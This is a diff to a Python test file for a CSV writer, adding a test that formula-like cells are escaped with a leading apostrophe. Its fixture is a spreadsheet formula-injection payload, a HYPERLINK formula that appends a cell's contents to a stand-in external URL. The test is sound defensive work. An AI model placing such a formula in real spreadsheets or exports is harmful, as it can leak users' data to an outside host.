@@ -166,3 +166,12 @@ def test_status_shows_what_the_ai_stage_used_and_cost() -> None:
         "ai stage"
         not in MockApi({"/v1/jobs/j1": httpx.Response(200, json=JOB)}).run("status", "j1").stdout
     )
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_stay_text() -> None:
+    out = io.StringIO()
+    title = '=HYPERLINK("https://x.example/?"&A1,"click")'
+    CsvWriter(out).write_page([result(0, {"title": title, "n": -5, "at": "@me"})])
+    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert row["data.title"] == "'" + title and row["data.at"] == "'@me"
+    assert row["data.n"] == "-5"
